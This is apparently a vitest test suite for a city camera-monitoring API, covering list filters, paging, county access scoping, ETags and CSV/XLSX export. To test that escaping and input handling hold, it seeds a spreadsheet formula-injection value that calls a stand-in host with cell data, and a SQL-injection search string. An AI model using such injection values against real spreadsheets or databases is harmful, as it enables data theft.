import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { insert } from '../../../src/store/writer.ts';
import { type Caller, startTestApi, type TestApi } from '../../support/api.ts';
import { startGround, type TestGround } from '../../support/ground.ts';
import { answerOf, pictureOf } from '../../support/results.ts';
import { codeOf, putCameras } from '../schedule/roster.ts';

let ground: TestGround;
let api: TestApi;
let centre: Caller;
let county: Caller;
let ids: Map<number, number>;

const cameras = 60;
const units = ['450202', '450203', '450204'] as const;
const unitOf = (serial: number): (typeof units)[number] => units[serial % 3]!;
const classOf = (serial: number) => (serial % 5 === 0 ? 'skynet' : serial % 7 === 0 ? 'household' : 'social');

/** Of the last minute: one in six is down, one in four has a picture, one in ten was not probed. */
const probe = async (): Promise<void> => {
  const slot = new Date(Math.floor(Date.now() / 5_000) * 5_000 - 60_000);
  const serials = [...ids.keys()].filter((serial) => serial % 10 !== 9);
  await insert(
    ground.db,
    serials.map((serial) => {
      const camera = ids.get(serial)!;
      if (serial % 6 === 1) {
        return answerOf(camera, slot, { online: 'no', failure: 'unreachable', step: 'connect', detail: 'refused' });
      }
      return serial % 4 === 0 ? pictureOf(camera, slot, {}) : answerOf(camera, slot, {});
    }),
  );
};

beforeAll(async () => {
  ground = await startGround();
  const { db } = ground;
  const serials = Array.from({ length: cameras }, (_, nth) => nth + 1);
  ids = await putCameras(
    db,
    serials.map((serial) => ({
      serial,
      unit: unitOf(serial),
      class: classOf(serial),
      site: serial % 2 ? 'north' : 'south',
    })),
  );
  await db.run(
    `update camera set name = (array['文昌路', '解放北路', '屏山大道'])[1 + id % 3] || (id % 20) || '号',
       in_use = id % 11 <> 0, removed = id % 22 = 0`,
  );
  await db.run(
    `insert into archive (camera, kind, manufacturer, address, pole, managing_unit)
     select id, (array['bullet', 'dome'])[1 + id % 2], (array['海康威视', '大华', null])[1 + id % 3],
       case when id % 13 = 0 then '=HYPERLINK("http://x/?" & A1)' else name || '路口' end, 'GAN-' || id / 3, '公安局' || unit
     from camera where id % 9 <> 0`,
  );
  await db.run(
    `insert into credential (camera, version, sealed, fingerprint) select id, 1, '\\x00', '\\x00' from camera where id % 4 = 0`,
  );
  await probe();
  api = await startTestApi(ground);
  centre = await api.as('centre');
  county = await api.as('county', '450203');
});
afterAll(async () => {
  await api?.close();
  await ground?.close();
});

type List = { items: Record<string, unknown>[]; total: number; next: string | null };
const list = async (who: Caller, query: string): Promise<List> => {
  const answer = await who.get(`/api/v1/cameras?${query}`);
  expect(answer.status, answer.text).toBe(200);
  return answer.body;
};
const all = async (who: Caller, query: string): Promise<string[]> => {
  const codes: string[] = [];
  for (let cursor = ''; ; ) {
    const { items, next } = await list(who, `${query}&limit=7&fields=code${cursor}`);
    codes.push(...items.map(({ code }) => String(code)));
    if (next === null) return codes;
    cursor = `&cursor=${next}`;
  }
};

/** The same question in SQL, over the tables themselves. */
const truth = async (asked: Readonly<Record<string, string>>, reach: string | null): Promise<string[]> => {
  const rows = await ground.db.many<{ code: string }>(
    `select c.code from camera c left join archive a on a.camera = c.id
     left join lateral (
       select online from result where camera = c.id and slot > now() - interval '10 minutes' order by slot desc limit 1
     ) r on true
     where ($1::text is null or c.unit = $1) and ($2::text is null or c.unit = $2) and ($3::text is null or c.class = $3)
       and ($4::text is null or c.site = $4) and ($5::text is null or c.state = $5)
       and ($6::text is null or a.manufacturer = $6) and ($7::text is null or a.kind = $7)
       and ($8::text is null or case when r.online then 'yes' when not r.online then 'no' else 'unknown' end = $8)
       and ($9::boolean is null or exists (select from credential k where k.camera = c.id) = $9)
       and not exists (
         select from regexp_split_to_table($10::text, '\\s+') as term
         where term <> '' and not (c.code like term || '%'
           or strpos(lower(concat_ws(chr(10), c.name, a.address, a.manufacturer, a.pole, a.managing_unit)), lower(term)) > 0)
       )
     order by c.code`,
    [
      ...[reach, asked.unit ?? null, asked.class ?? null, asked.site ?? null, asked.state ?? null],
      ...[asked.manufacturer ?? null, asked.kind ?? null, asked.online ?? null, asked.login ?? null, asked.q ?? ''],
    ],
  );
  return rows.map(({ code }) => code);
};

const questions: readonly Readonly<Record<string, string>>[] = [
  {},
  { q: '文昌路' },
  { q: '路口 1' },
  { q: 'gan-1' },
  { q: codeOf(1).slice(0, 19) },
  { q: '公安局450203' },
  { q: "' or 1=1 --" },
  { unit: '450203', class: 'social' },
  { unit: '450299' },
  { state: 'removed' },
  { site: 'south', online: 'no' },
  { online: 'unknown' },
  { online: 'yes', login: 'true' },
  { manufacturer: '海康威视', q: '解放' },
  { kind: 'dome', login: 'false' },
];
const queryOf = (asked: Readonly<Record<string, string>>): string => new URLSearchParams(asked).toString();

describe('the list of cameras', () => {
  it.each(questions)('%o is what SQL says, page by page, to the city and to a county', async (asked) => {
    for (const [who, reach] of [
      [centre, null],
      [county, '450203'],
    ] as const) {
      const wanted = await truth(asked, reach);
      expect(await all(who, queryOf(asked))).toEqual(wanted);
      expect((await list(who, queryOf(asked))).total).toBe(wanted.length);
    }
  });

  it.each(['name', '-name', 'unit', '-onlineAt', 'changedAt', '-code'])('by %s has every camera once', async (sort) => {
    const codes = await all(centre, `sort=${sort}`);
    expect(codes).toHaveLength(cameras);
    expect(new Set(codes).size).toBe(cameras);
  });

  it('is as fresh as the question: an archive, a login, a result, a camera that came', async () => {
    const { db } = ground;
    expect((await list(centre, 'q=瓦窑村')).total).toBe(0);
    await db.run("update archive set address = '瓦窑村口' where camera = $1", [ids.get(4)]);
    expect((await list(centre, 'q=瓦窑村')).items).toMatchObject([
      { code: codeOf(4), address: '瓦窑村口', login: true },
    ]);
    await db.run('delete from credential where camera = $1', [ids.get(4)]);
    expect((await list(centre, 'q=瓦窑村')).items).toMatchObject([{ login: false }]);
    const slot = new Date(Math.floor(Date.now() / 5_000) * 5_000 - 5_000);
    const failed = { online: 'no', failure: 'timeout', step: 'connect', detail: 'none' } as const;
    await insert(db, [answerOf(ids.get(4)!, slot, failed)]);
    expect((await list(centre, 'q=瓦窑村&online=no')).items).toMatchObject([
      { online: 'no', onlineAt: slot.toISOString(), image: 'no', failure: 'timeout' },
    ]);
    await putCameras(db, [{ serial: 900, unit: '450203' }]);
    expect((await list(county, `q=${codeOf(900)}`)).total).toBe(1);
    expect((await list(centre, 'limit=1')).total).toBe(cameras + 1);
    await db.run('delete from camera where code = $1', [codeOf(900)]);
    expect((await list(centre, 'limit=1')).total).toBe(cameras);
  });

  it('neither doubles nor misses a camera that stays where others come and go between two pages', async () => {
    const { db } = ground;
    const first = await list(centre, 'limit=20&fields=code');
    await putCameras(db, [{ serial: 0 }, { serial: 901 }]);
    const second = await list(centre, `limit=500&fields=code&cursor=${first.next}`);
    await db.run('delete from camera where code = any($1)', [[codeOf(0), codeOf(901)]]);
    const codes = [...first.items, ...second.items].map(({ code }) => code);
    expect(codes).toEqual([...Array.from({ length: cameras }, (_, nth) => codeOf(nth + 1)), codeOf(901)]);
  });

  it('shows the wanted fields only, and tells which there are', async () => {
    expect((await list(centre, 'limit=1&fields=code,class')).items).toEqual([{ code: codeOf(1), class: 'social' }]);
    const refused = await centre.get('/api/v1/cameras?fields=password');
    expect(refused).toMatchObject({ status: 400, body: { code: 'invalid', field: 'fields' } });
    // A page of another order does not go on in this one.
    const { next } = await list(centre, 'limit=1&sort=name');
    expect(await centre.get(`/api/v1/cameras?cursor=${next}`)).toMatchObject({
      status: 400,
      body: { field: 'cursor' },
    });
  });
});

describe('the page of a camera', () => {
  it('tells archive, state and login of one that is met, and of another’s nothing', async () => {
    const answer = await centre.get(`/api/v1/cameras/${codeOf(1)}`);
    expect(answer.body).toMatchObject({
      ...{ code: codeOf(1), unit: '450203', login: false, heldLogin: null, outage: null, exemption: null },
      archive: { manufacturer: '大华', pole: 'GAN-0' },
      now: {
        online: 'no',
        image: 'no',
        failure: { kind: 'unreachable', zh: expect.any(String), en: expect.any(String) },
      },
    });
    expect((await county.get(`/api/v1/cameras/${codeOf(1)}`)).status).toBe(200);
    const [strange, none] = [
      await county.get(`/api/v1/cameras/${codeOf(2)}`),
      await county.get(`/api/v1/cameras/${codeOf(99)}`),
    ];
    const told = ({ status, code, title }: { status: number; code: string; title: string }) => ({
      status,
      code,
      title,
    });
    expect(told(strange.body)).toEqual(told(none.body));
    expect(strange.status).toBe(404);
  });

  it('tells a login that is held, an exemption in force and an outage that goes on', async () => {
    const { db } = ground;
    const camera = ids.get(8)!;
    await db.run(
      `insert into login (host, fingerprint, refused_by, refused_kind, refused_detail, refused_at)
       select c.host, k.fingerprint, 'rtsp', 'unauthorized', '401', now()
       from camera c join credential k on k.camera = c.id where c.id = $1`,
      [camera],
    );
    await db.run(
      `insert into outage (camera, began_at, confirmed_at, kind, step, detail, unit, class, site)
       values ($1, date_trunc('second', now()) - interval '2 hours', now(), 'timeout', 'connect', 'none', $2, 'social', 'south')`,
      [camera, unitOf(8)],
    );
    await db.transaction(async (tx) => {
      const { id } = await tx.one<{ id: number }>(
        `insert into exemption (unit, applicant, phone, reason, text, selected_by, cameras, begins_at, ends_at, submitted_at,
           decision, decided_at, decided_by)
         values ($1, '黄某', '0772', 'power_cut', '检修', 'cameras', 1, now() - interval '1 hour', now() + interval '1 hour',
           now() - interval '2 hours', 'approved', now(), '中心') returning id`,
        [unitOf(8)],
      );
      await tx.run('insert into exemption_camera (exemption, camera) values ($1, $2)', [id, camera]);
    });
    expect((await centre.get(`/api/v1/cameras/${codeOf(8)}`)).body).toMatchObject({
      login: true,
      heldLogin: { service: 'rtsp', kind: 'unauthorized' },
      outage: { failure: { kind: 'timeout' } },
      exemption: { reason: '停电：检修' },
    });
    const { items, total } = (await centre.get('/api/v1/outages?open=true')).body as List;
    expect([total, items[0]]).toMatchObject([1, { camera: codeOf(8), endedAt: null, seconds: null }]);
    expect((await county.get('/api/v1/outages')).body).toEqual({ items: [], total: 0, next: null });
  });
});

describe('a cursor that somebody made up', () => {
  it('of a time beyond all calendars is a page like any other', async () => {
    for (const [path, sort, ...keys] of [
      [`cameras/${codeOf(1)}/probes`, '-slot', -8_640_000_000_000_000],
      [`cameras/${codeOf(1)}/probes`, 'slot', Number.MAX_SAFE_INTEGER],
      ['outages', '-beganAt', -8_640_000_000_000_000, 1],
    ]) {
      const cursor = Buffer.from(JSON.stringify([sort, ...keys])).toString('base64url');
      expect((await centre.get(`/api/v1/${path}?sort=${sort}&cursor=${cursor}`)).status).toBe(200);
    }
  });
});

describe('the export of cameras', () => {
  const codesIn = (csv: string): string[] => csv.match(/^\d{20}/gm) ?? [];

  it('has the cameras of the list with the same filters, to the city and to a county', async () => {
    for (const asked of questions) {
      for (const who of [centre, county]) {
        const answer = await who.get(`/api/v1/cameras/export?${queryOf(asked)}`);
        expect(answer).toMatchObject({ status: 200, headers: { 'content-type': 'text/csv; charset=utf-8' } });
        expect(codesIn(answer.text)).toEqual(await all(who, queryOf(asked)));
      }
    }
  });

  it('holds no formula, and neither login nor password', async () => {
    const { text } = await centre.get('/api/v1/cameras/export');
    expect(text).toContain('\'=HYPERLINK(""http://x/?"" & A1)');
    expect(text.split('\n')[0]).not.toMatch(/密码|用户名/);
  });

  it('comes as a workbook, too', async () => {
    const { bytes, headers } = await county.get('/api/v1/cameras/export?format=xlsx');
    expect(headers['content-disposition']).toBe('attachment; filename="cameras.xlsx"');
    expect(bytes.subarray(0, 2).toString()).toBe('PK');
  });
});

describe('an ETag', () => {
  it('is answered by 304 as long as the answer is the same, and belongs to whoever asked', async () => {
    const url = `/api/v1/cameras/${codeOf(12)}`;
    const first = await centre.get(url);
    const { etag } = first.headers as { etag: string };
    expect(first.headers).toMatchObject({
      'cache-control': 'private, no-cache',
      vary: 'Cookie, Authorization, Accept-Language',
    });
    expect(await centre.get(url, { 'if-none-match': `"other", W/${etag}` })).toMatchObject({ status: 304, text: '' });
    await ground.db.run("update archive set pole = 'GAN-999' where camera = $1", [ids.get(12)]);
    const second = await centre.get(url, { 'if-none-match': etag });
    expect(second).toMatchObject({ status: 200, body: { archive: { pole: 'GAN-999' } } });
    expect(second.headers.etag).not.toBe(etag);
    const [city, own] = [await centre.get('/api/v1/units'), await county.get('/api/v1/units')];
    expect(city.headers.etag).not.toBe(own.headers.etag);
    expect((own.body as List).items).toMatchObject([{ code: '450203' }]);
  });
});
